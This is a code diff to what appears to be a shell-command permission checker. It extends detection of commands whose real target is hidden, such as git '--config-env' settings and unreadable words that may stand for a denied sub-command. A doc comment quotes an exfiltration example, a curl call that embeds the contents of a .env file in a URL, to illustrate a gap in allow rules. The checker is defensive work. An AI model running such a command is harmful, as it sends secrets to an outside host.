@@ -1,9 +1,9 @@
 import { defaultOrigin } from "../../codes/origin.ts";
 import type { CompiledRule, CompiledRules } from "../compile-rules.ts";
-import { changesWhatRuns } from "../loader-variables.ts";
+import { steersShell } from "../loader-variables.ts";
 import type { PathWorld } from "../paths.ts";
 import { type CommandLine, type InnerCommands, PROCESS_FILE, type ShellCommand, UNKNOWN_TEXT } from "./command-line.ts";
-import { meansCommand } from "./command-pattern.ts";
+import { mayMean, meansCommand } from "./command-pattern.ts";
 import { coverCommand, reachOf } from "./cover-command.ts";
 import { asking, byRule, type Finding, showCommand } from "./finding.ts";
 import { addressJudge } from "./judge-addresses.ts";
@@ -61,7 +61,7 @@ export function judgeShell(line: CommandLine, rules: CompiledRules, world: PathW
     ...judgeMissed(rules, world),
     ...problems,
     ...judgeLoops(line),
-    ...line.commands.map((command) => judgeCover(command, rules.allow)),
+    ...line.commands.map((command) => judgeCover(command, rules.allow, world)),
   ];
 }
 
@@ -143,11 +143,31 @@ function judgeMissed({ allow }: CompiledRules, { confinement }: PathWorld): read
 function judgeNames(run: ReadonlySet<ShellCommand>, rules: CompiledRules): readonly Finding[] {
   if (!hasCommandRules(rules)) return [];
   const all = [...run];
-  const odd = all.find((command) => !hasPlainName(command)) ?? all.find(runsUnseen);
+  const odd =
+    all.find((command) => !hasPlainName(command)) ?? all.find(runsUnseen) ?? all.find((one) => hidesNamed(one, rules));
   if (odd === undefined) return [];
   const part = showCommand(odd);
-  const why = hasPlainName(odd) ? "it runs commands that nobody can read" : "only the shell knows the name of this one";
+  const why = !hasPlainName(odd)
+    ? "only the shell knows the name of this one"
+    : runsUnseen(odd)
+      ? "it runs commands that nobody can read"
+      : "only the shell knows which of its commands this is";
   return [asking(part, "permission.unreadable", `${JSON.stringify(part)}: rules name commands, and ${why}`)];
+}
+
+/** It may be a sub-command that a rule is about, or one that its own settings stand for. */
+function hidesNamed({ words }: ShellCommand, { deny, ask }: CompiledRules): boolean {
+  const named = words[0]?.text === "git" && words.some(({ text }) => text.startsWith("--config-env"));
+  if (!named && !words.some(({ text }) => text === UNKNOWN_TEXT)) return false;
+  return [...deny, ...ask].some(
+    ({ matcher }) =>
+      matcher.kind === "command" &&
+      (mayMean(matcher.pattern, words) ||
+        (named &&
+          "words" in matcher.pattern &&
+          matcher.pattern.words[0] === "git" &&
+          matcher.pattern.words.length > 1)),
+  );
 }
 
 /** A shell or an interpreter that takes its script from somewhere else than the line. */
@@ -205,9 +225,9 @@ function judgeStrictly(command: ShellCommand, rules: CompiledRules): readonly Fi
   return asked === undefined ? [] : [byRule(showCommand(command), "ask", asked)];
 }
 
-function judgeCover(command: ShellCommand, allows: readonly CompiledRule[]): Finding {
+function judgeCover(command: ShellCommand, allows: readonly CompiledRule[], world: PathWorld): Finding {
   const part = showCommand(command);
-  const cover = coverCommand(command, allows);
+  const cover = coverCommand(command, allows, world);
   if (!cover.covered) return asking(part, cover.code, `${JSON.stringify(part)}: ${cover.text}`);
   return cover.rule === null ? { ...nothingRuns, part } : byRule(part, "allow", cover.rule);
 }
@@ -216,10 +236,10 @@ function judgeCover(command: ShellCommand, allows: readonly CompiledRule[]): Fin
  * Something that needs more than these rules gets what other commands print, through a pipe or as its own words: a rule
  * for `curl` says nothing about files that are read for it, as in `curl "https://h/?x=$(cat .env)"`.
  */
-export function takesFromOthers({ commands }: CommandLine, allows: readonly CompiledRule[]): boolean {
+export function takesFromOthers({ commands }: CommandLine, allows: readonly CompiledRule[], world: PathWorld): boolean {
   const isCarried = commands.some((command) => takesInput(command) || (command.captured && !printsOwnText(command)));
   return commands.some(
-    (command) => (command.piped || (isCarried && hasUnknown(command))) && !coverCommand(command, allows).covered,
+    (command) => (command.piped || (isCarried && hasUnknown(command))) && !coverCommand(command, allows, world).covered,
   );
 }
 
@@ -243,7 +263,7 @@ function printsOwnText({ words, redirections, piped }: ShellCommand): boolean {
 
 /** A loop sets its variable as an assignment does. */
 function judgeLoops({ loopVariables }: CommandLine): readonly Finding[] {
-  const odd = loopVariables.find((name) => changesWhatRuns(name));
+  const odd = loopVariables.find((name) => steersShell(name));
   return odd === undefined
     ? []
     : [asking("", "permission.assignment", `a loop sets ${odd}, which can change what runs`)];
